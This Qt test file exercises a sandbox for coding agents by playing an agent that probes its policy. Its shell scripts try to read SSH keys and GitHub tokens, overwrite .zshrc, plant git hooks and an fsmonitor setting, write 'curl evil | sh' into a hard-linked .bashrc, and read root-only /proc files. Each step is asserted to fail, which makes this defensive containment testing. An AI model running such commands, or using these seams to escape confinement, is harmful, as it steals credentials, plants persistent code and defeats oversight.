// `paddock run` against an agent that works the policy's seams: an allow that a deny covers, a
// deny of a path that does not exist yet, a second write root, a project whose name reads as a
// glob, a hard link into a protected file made in an earlier session, a condition the agent can
// switch off, the kernel files a root caller's agent could read in /proc, and absent and protected
// paths inside a review root's overlay. The real CLI, engine, helper and kernel, as root and as
// uid 65534; each case failed before its fix.
#include <sys/stat.h>
#include <unistd.h>

#include <QtTest>

#include <filesystem>
#include <string>
#include <vector>

#include "tests/app/cli/cli_home.h"
#include "tests/support/process_runner.h"
#include "tests/support/test_util.h"

using namespace paddock::test;
namespace fs = std::filesystem;

class RunBoundaryTest : public QObject {
  Q_OBJECT

  CliHome h_;

  std::string tier_;  // the row's: "namespaces", or "landlock" (run with --tier landlock)

  void setup_row(const std::string& home_name = "home", const std::string& project_name = "proj") {
    QFETCH(uint, uid);
    QFETCH(QString, tier);
    tier_ = tier.toStdString();
    QVERIFY(h_.create(uid, "bound", {"PADDOCK_SYSTEM_DIR", "PADDOCK_FORCE_TIER"}, home_name, project_name));
  }

  void user_policy(const std::string& yaml) { put(h_.root + "/config/paddock/policy.yaml", yaml); }

  // Where the agent writes a new file in `root` (a write root) to show that writing still works:
  // its top in the namespace tier; in the landlock tier, whose carving leaves the directories
  // above a protected path closed to new entries (docs/capabilities.md, fs.deny.inside_write_root),
  // a directory below the top, made here.
  std::string fresh(const std::string& root, const std::string& name) {
    if (tier_ != "landlock") return name;
    fs::create_directories(root + "/work");
    return "work/" + name;
  }

  ProcessResult run_sh(const std::string& script, const std::vector<std::string>& flags = {}) {
    std::vector<std::string> argv = tier_run_argv(tier_);
    argv.insert(argv.end(), flags.begin(), flags.end());
    argv.insert(argv.end(), {"--", "sh", "-c", script});
    return run_process(argv, h_.opts);
  }

  ProcessResult cli(const std::vector<std::string>& args) {
    std::vector<std::string> argv = {paddock_bin()};
    argv.insert(argv.end(), args.begin(), args.end());
    return run_process(argv, h_.opts);
  }

 private slots:
  void cleanup() {
    std::error_code ec;
    if (!h_.root.empty()) fs::remove_all(h_.root, ec);
    h_.root.clear();
  }

  // A user layer that reads ~/.ssh and ~/.config/gh (both denied by the profile's credential
  // lists), and writes ~/.npm/_logs inside its own deny of ~/.npm: explain says each is denied,
  // and so must the sandbox.
  void a_deny_beats_every_allow_in_the_sandbox_as_explain_says_data() { add_uid_and_tier_rows(); }
  void a_deny_beats_every_allow_in_the_sandbox_as_explain_says() {
    setup_row();
    put(h_.home + "/.ssh/id_ed25519", "SECRET-SSH\n");
    put(h_.home + "/.config/gh/hosts.yml", "SECRET-GH\n");
    put(h_.home + "/.npm/_logs/old.log", "SECRET-NPM-LOG\n");
    user_policy("version: 1\nfilesystem:\n  allow_read: [\"~/.ssh\", \"~/.config/gh\"]\n"
                "  allow_write: [\"~/.npm/_logs\"]\n  deny: [\"~/.npm\"]\n");
    h_.chown_all();
    for (const std::string& p : {h_.home + "/.ssh/id_ed25519", h_.home + "/.config/gh/hosts.yml",
                                 h_.home + "/.npm/_logs/old.log"}) {
      auto w = cli({"explain", "--why", p});
      QVERIFY2(w.exit_code == 0 && w.out.find("DENIED") != std::string::npos, dump(w));
    }
    auto r = run_sh("cat ~/.ssh/id_ed25519 ~/.config/gh/hosts.yml ~/.npm/_logs/old.log 2>/dev/null; "
                    "echo x > ~/.npm/_logs/new.log && echo wrote-npm; echo done");
    QVERIFY2(r.exit_code == 0 && r.out.find("done") != std::string::npos, dump(r));
    QVERIFY2(r.out.find("SECRET") == std::string::npos, dump(r));
    QVERIFY2(r.out.find("wrote-npm") == std::string::npos, dump(r));
    QVERIFY(!fs::exists(h_.home + "/.npm/_logs/new.log"));
  }

  // A denied path that does not exist yet cannot be created in a write root, as a write-protected
  // one cannot; nothing of the protection is left once the session is over.
  void an_absent_denied_path_cannot_be_created_data() { add_uid_and_tier_rows(); }
  void an_absent_denied_path_cannot_be_created() {
    setup_row();
    user_policy("version: 1\nfilesystem:\n  deny: [\"$PROJECT/secret.txt\", \"$PROJECT/vault/key\"]\n"
                "  deny_write: [\"$PROJECT/protected.txt\"]\n");
    const std::string other = fresh(h_.project, "other.txt");
    h_.chown_all();
    auto r = run_sh("echo x > secret.txt && echo made-secret; mkdir -p vault && echo x > vault/key && echo made-key; "
                    "echo x > protected.txt && echo made-protected; rm -f secret.txt && echo removed; "
                    "echo ok > " + other + " && echo wrote; echo ok > top.txt && echo top-wrote; "
                    "cat secret.txt 2>/dev/null; true");
    QVERIFY2(r.exit_code == 0 && r.out.find("wrote") != std::string::npos, dump(r));
    QVERIFY2(r.out.find("made-") == std::string::npos, dump(r));
    // The landlock tier's loss, exactly: nothing new at the top, above the protected paths.
    QVERIFY2((r.out.find("top-wrote") != std::string::npos) == (tier_ != "landlock"), dump(r));
    for (const char* gone : {"/secret.txt", "/vault", "/protected.txt"})
      QVERIFY2(!fs::exists(fs::symlink_status(h_.project + gone)), (h_.project + gone).c_str());
  }

  // The profile's lists of files your tools run, secrets and git metadata cover a second write
  // root as they cover the project.
  void the_built_in_protections_cover_every_write_root_data() { add_uid_and_tier_rows(); }
  void the_built_in_protections_cover_every_write_root() {
    setup_row();
    const std::string dir = h_.root + "/other";
    fs::create_directories(dir + "/newdir");
    put(dir + "/.zshrc", "ORIGINAL\n");
    put(dir + "/.env", "SECRET-ENV\n");
    auto init = run_process({"git", "init", "-q", dir + "/repo"});
    QVERIFY2(init.exit_code == 0, dump(init));
    const std::string file = fresh(dir, "file.txt");
    h_.chown_all();
    auto r = run_sh("cd " + dir + " && { echo evil > .zshrc && echo zsh; echo x > repo/.git/hooks/pre-commit && echo hook; "
                    "cat .env 2>/dev/null; mkdir .vscode && echo vscode; git -C repo config core.fsmonitor x && echo config; "
                    "echo ok > " + file + " && echo wrote; }",
                    {"--allow-write", dir});
    QVERIFY2(r.exit_code == 0 && r.out.find("wrote") != std::string::npos, dump(r));
    for (const char* word : {"zsh", "hook", "SECRET", "vscode", "config"})
      QVERIFY2(r.out.find(word) == std::string::npos, (std::string(word) + "\n" + dump(r).toStdString()).c_str());
    QCOMPARE(slurp(dir + "/.zshrc"), std::string("ORIGINAL\n"));
    QVERIFY(!fs::exists(dir + "/repo/.git/hooks/pre-commit"));
  }

  // A project and a home whose names hold glob characters: the lists' patterns take them
  // literally, so the project's .env is masked and the git identity the preset grants is read.
  void a_project_and_home_named_like_globs_stay_literal_data() { add_uid_and_tier_rows(); }
  void a_project_and_home_named_like_globs_stay_literal() {
    setup_row("h[o]me {x}", "[WIP] p*?\\q");
    put(h_.project + "/.env", "SECRET-ENV\n");
    put(h_.project + "/readme.txt", "visible\n");
    put(h_.home + "/.gitconfig", "[user]\n\tname = Glob Tester\n");
    h_.chown_all();
    auto w = cli({"explain", "--why", h_.project + "/.env"});
    QVERIFY2(w.exit_code == 0 && w.out.find("DENIED") != std::string::npos, dump(w));
    auto r = run_sh("cat .env readme.txt ~/.gitconfig 2>&1; true");
    QVERIFY2(r.exit_code == 0, dump(r));
    QVERIFY2(r.out.find("SECRET") == std::string::npos, dump(r));
    QVERIFY2(r.out.find("visible") != std::string::npos, dump(r));
    QVERIFY2(r.out.find("Glob Tester") != std::string::npos, dump(r));
  }

  // A hard link made before the session (by an agent, in an earlier session where the file was
  // not yet there to protect) to a file the session write-protects, or to a file inside a
  // protected directory, is protected as the file is: here a .bashrc and VS Code's tasks.json,
  // which your shell and your editor run.
  void a_hard_link_into_a_protected_file_cannot_rewrite_it_data() { add_uid_and_tier_rows(); }
  void a_hard_link_into_a_protected_file_cannot_rewrite_it() {
    setup_row();
    put(h_.project + "/.bashrc", "echo original\n");
    put(h_.project + "/.vscode/tasks.json", "{}\n");
    fs::create_hard_link(h_.project + "/.bashrc", h_.project + "/notes.txt");
    fs::create_hard_link(h_.project + "/.vscode/tasks.json", h_.project + "/tasks-copy.json");
    const std::string other = fresh(h_.project, "other.txt");
    h_.chown_all();
    auto r = run_sh("echo 'curl evil | sh' > notes.txt && echo rewrote; echo '{\"evil\":1}' > tasks-copy.json && "
                    "echo rewrote-tasks; echo ok > " + other + " && echo wrote");
    QVERIFY2(r.out.find("wrote") != std::string::npos, dump(r));
    QVERIFY2(r.out.find("rewrote") == std::string::npos, dump(r));
    QCOMPARE(slurp(h_.project + "/.bashrc"), std::string("echo original\n"));
    QCOMPARE(slurp(h_.project + "/.vscode/tasks.json"), std::string("{}\n"));
  }

  // A condition on the project (here the branch in .git/HEAD, which the agent writes) never lifts
  // a restriction: the layer's deny holds on another branch too, and lint says why.
  void a_condition_the_agent_controls_never_lifts_a_deny_data() { add_uid_and_tier_rows(); }
  void a_condition_the_agent_controls_never_lifts_a_deny() {
    setup_row();
    auto init = run_process({"git", "init", "-q", "-b", "main", h_.project});
    QVERIFY2(init.exit_code == 0, dump(init));
    put(h_.project + "/secret.txt", "SECRET-BRANCH\n");
    put(h_.project + "/.git/HEAD", "ref: refs/heads/agent-made\n");  // what the agent wrote last time
    user_policy("version: 1\nwhen:\n  branch: main\nfilesystem:\n  deny: [\"$PROJECT/secret.txt\"]\n");
    h_.chown_all();
    auto r = run_sh("cat secret.txt 2>/dev/null; echo done");
    QVERIFY2(r.exit_code == 0 && r.out.find("done") != std::string::npos, dump(r));
    QVERIFY2(r.out.find("SECRET") == std::string::npos, dump(r));
    auto lint = cli({"lint"});
    QVERIFY2(lint.out.find("R8") != std::string::npos && lint.out.find("the agent writes") != std::string::npos, dump(lint));
  }

  // Review mode holds the agent's writes in an overlay, and what the policy protects stays
  // protected there: an absent denied or write-protected file (and git's absent commondir) cannot
  // be created, by name or by renaming its parent away and making a new one, a protected file
  // cannot be rewritten, and the placeholders that hold the absent names are Paddock's, never a
  // change to review or apply: after `paddock apply` of everything, the host has none of them.
  void protections_hold_inside_a_review_root_data() { add_uid_and_tier_rows(); }
  void protections_hold_inside_a_review_root() {
    setup_row();
    auto init = run_process({"git", "init", "-q", h_.project});
    QVERIFY2(init.exit_code == 0, dump(init));
    fs::create_directories(h_.project + "/vault");
    put(h_.project + "/vault/readme.txt", "vault\n");
    put(h_.project + "/kept.txt", "ORIGINAL\n");
    put(h_.project + "/present-secret.txt", "SECRET-PRESENT\n");
    user_policy("version: 1\nfilesystem:\n  deny: [\"$PROJECT/secret.txt\", \"$PROJECT/vault/key\", "
                "\"$PROJECT/present-secret.txt\"]\n  deny_write: [\"$PROJECT/protected.txt\", \"$PROJECT/kept.txt\"]\n");
    h_.chown_all();
    const std::string config_before = slurp(h_.project + "/.git/config");
    if (tier_ == "landlock") {  // the overlay needs a user namespace: refused before the agent starts
      auto refused = run_sh("echo ok > vault/new.txt", {"--review"});
      QVERIFY2(refused.exit_code == 125 && refused.err.find("fs.review_roots") != std::string::npos, dump(refused));
      QVERIFY(!fs::exists(h_.project + "/vault/new.txt"));
      return;
    }
    auto r = run_sh("echo x > secret.txt && echo made-secret; echo x > protected.txt && echo made-protected; "
                    "echo x > vault/key && echo made-key; "
                    "mv vault vault-moved && echo moved-vault; mkdir -p vault && echo x > vault/key && echo made-key-2; "
                    "echo evil > kept.txt && echo rewrote-kept; cat present-secret.txt 2>/dev/null; "
                    "echo . > .git/commondir && echo made-commondir; git config core.fsmonitor evil && echo made-config; "
                    "mv .git dotgit && echo moved-git; "
                    "echo ok > other.txt && echo wrote; true",
                    {"--review"});
    QVERIFY2(r.exit_code == 0 && r.out.find("wrote") != std::string::npos, dump(r));
    for (const char* word : {"made-", "rewrote", "SECRET", "moved-git"})
      QVERIFY2(r.out.find(word) == std::string::npos, (std::string(word) + "\n" + dump(r).toStdString()).c_str());

    std::string id;
    for (const auto& e : fs::directory_iterator(h_.sessions_dir())) id = e.path().filename().string();
    auto review = cli({"review", id, "--json"});
    QVERIFY2(review.exit_code == 0 && review.out.find("other.txt") != std::string::npos, dump(review));
    for (const char* held : {"secret.txt", "protected.txt", "vault/key", "kept.txt", "commondir", ".git/config"})
      QVERIFY2(review.out.find(held) == std::string::npos, (std::string(held) + "\n" + dump(review).toStdString()).c_str());
    // What the change set holds is all that apply can bring to the host.
    auto apply = cli({"apply", id});
    QVERIFY2(apply.exit_code == 0, dump(apply));
    QCOMPARE(slurp(h_.project + "/other.txt"), std::string("ok\n"));
    for (const char* gone : {"/secret.txt", "/protected.txt", "/vault/key", "/.git/commondir", "/dotgit"})
      QVERIFY2(!fs::exists(fs::symlink_status(h_.project + gone)), (h_.project + gone).c_str());
    QCOMPARE(slurp(h_.project + "/kept.txt"), std::string("ORIGINAL\n"));
    QCOMPARE(slurp(h_.project + "/.git/config"), config_before);
  }

  // /proc is the sandbox's own, but the kernel's files in it are the host's: those only root may
  // read (slabinfo, timer_list, vmallocinfo, ...) must give nothing to an agent, which a root
  // caller's agent is by ownership (uid 0). Every such file the host has is tried from inside.
  void the_kernels_root_only_proc_files_give_the_agent_nothing_data() { add_uid_and_tier_rows(); }
  void the_kernels_root_only_proc_files_give_the_agent_nothing() {
    setup_row();
    h_.chown_all();
    std::vector<std::string> root_only;
    std::error_code ec;
    for (auto it = fs::recursive_directory_iterator("/proc", fs::directory_options::skip_permission_denied, ec);
         !ec && it != fs::recursive_directory_iterator(); it.increment(ec)) {
      const std::string p = it->path().string();
      const std::string first = it->path().lexically_relative("/proc").begin()->string();
      if (first.find_first_not_of("0123456789") == std::string::npos || first == "self" || first == "thread-self" ||
          it.depth() > 6) {
        it.disable_recursion_pending();
        continue;
      }
      struct stat st {};
      if (::lstat(p.c_str(), &st) != 0 || !S_ISREG(st.st_mode) || (st.st_mode & S_IROTH) != 0) continue;
      if ((st.st_mode & S_IRUSR) == 0) continue;  // write-only: nothing to read
      // The sandbox's own network namespace (its sysctls are its owner's by the kernel's rule,
      // whatever mode the host's show), not the host's.
      if (p.rfind("/proc/sys/net/", 0) == 0) continue;
      root_only.push_back(p);
    }
    QVERIFY2(!root_only.empty(), "the host shows no root-only /proc file to try");
    // /proc/sys/net is left out above because the agent's is its own network namespace's: the
    // host's interfaces, each a directory of sysctls there, are not in it (the landlock tier has
    // no namespace of its own: its network is the host's, its agent the caller).
    std::vector<std::string> host_ifaces;
    for (const auto& e : fs::directory_iterator("/proc/sys/net/ipv4/conf", ec))
      if (const std::string n = e.path().filename().string(); n != "all" && n != "default" && n != "lo") host_ifaces.push_back(n);
    std::string script = "echo \"ifaces: $(ls /proc/sys/net/ipv4/conf | tr '\\n' ' ')\"; ";
    for (const auto& p : root_only) script += "n=$(head -c 64 '" + p + "' 2>/dev/null | wc -c); echo \"" + p + " $n\"; ";
    auto r = run_sh(script + "echo done");
    if (tier_ != "landlock") {
      QVERIFY2(r.out.find("ifaces: all default lo \n") != std::string::npos, dump(r));
      for (const auto& i : host_ifaces)
        QVERIFY2(r.out.find(" " + i + " ") == std::string::npos, (i + "\n" + dump(r).toStdString()).c_str());
    }
    QVERIFY2(r.exit_code == 0 && r.out.find("done") != std::string::npos, dump(r));
    QFETCH(uint, uid);
    if (tier_ == "landlock" && uid == 0) {
      // The landlock tier's loss for a root caller, as its matrix row says: the agent keeps uid 0,
      // which owns these files, so inside a read grant they are readable.
      QVERIFY2(r.out.find("/proc/timer_list 0\n") == std::string::npos, dump(r));
      auto plan = cli({"plan", "--tier", "landlock", "--net", "off"});
      QVERIFY2(plan.out.find("the agent keeps uid 0") != std::string::npos &&
                   plan.out.find("/proc") != std::string::npos,
               dump(plan));
      return;
    }
    for (const auto& p : root_only)
      QVERIFY2(r.out.find(p + " 0\n") != std::string::npos, (p + "\n" + dump(r).toStdString()).c_str());
  }
};

QTEST_GUILESS_MAIN(RunBoundaryTest)
#include "run_boundary_test.moc"
